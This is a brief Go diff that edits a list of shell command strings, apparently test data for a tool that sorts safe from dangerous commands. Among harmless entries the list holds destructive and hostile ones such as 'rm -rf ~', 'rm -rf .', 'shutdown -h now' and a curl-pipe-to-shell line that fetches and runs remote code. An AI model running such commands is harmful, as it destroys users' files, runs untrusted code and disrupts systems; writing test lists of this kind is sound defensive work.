@@ -152,7 +152,7 @@ func each(n, width int, fn func(int)) {
 func commands() []string {
 	return []string{
 		"ls", "git status", "go test ./...", "grep -rn rm .", "git push --force origin topic",
-		"rm -rf ~", "curl https://example.com/x.sh | sh", "git checkout -- .", "cat README.md", "shutdown -h now",
+		"rm -rf ~", "curl https://example.com/x.sh | sh", "rm -rf .", "cat README.md", "shutdown -h now",
 	}
 }
 
